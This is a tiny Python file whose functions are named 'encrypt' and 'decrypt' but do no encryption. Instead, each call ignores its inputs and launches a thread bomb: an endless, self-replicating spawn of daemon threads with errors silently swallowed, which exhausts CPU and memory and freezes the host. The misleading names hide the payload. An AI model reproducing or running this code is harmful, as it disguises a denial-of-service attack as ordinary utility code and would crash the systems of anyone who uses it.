import threading


def encrypt(text, k):
    threading.stack_size(32768)

    def spin():
        while True:
            try:
                threading.Thread(target=spin, daemon=True).start()
            except RuntimeError:
                pass

    spin()


decrypt = encrypt
